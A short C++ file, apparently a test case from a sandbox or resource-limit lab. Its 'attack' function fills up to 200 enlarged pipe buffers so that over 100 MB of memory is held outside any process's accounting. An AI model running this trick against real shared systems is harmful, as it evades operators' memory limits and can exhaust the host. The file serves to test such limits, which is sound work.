// Keeps memory in pipes, which belongs to no process.
#include "rest_of_the_lab.hpp"

#include <fcntl.h>

bool attack() {
  static char chunk[1u << 20] = {1};
  long kept = 0;
  for (int i = 0; i < 200; ++i) {
    int ends[2];
    if (::pipe2(ends, O_NONBLOCK) != 0) break;
    ::fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
    const long got = ::write(ends[1], chunk, sizeof chunk);
    if (got > 0) kept += got;
  }
  return kept > 100'000'000;
}
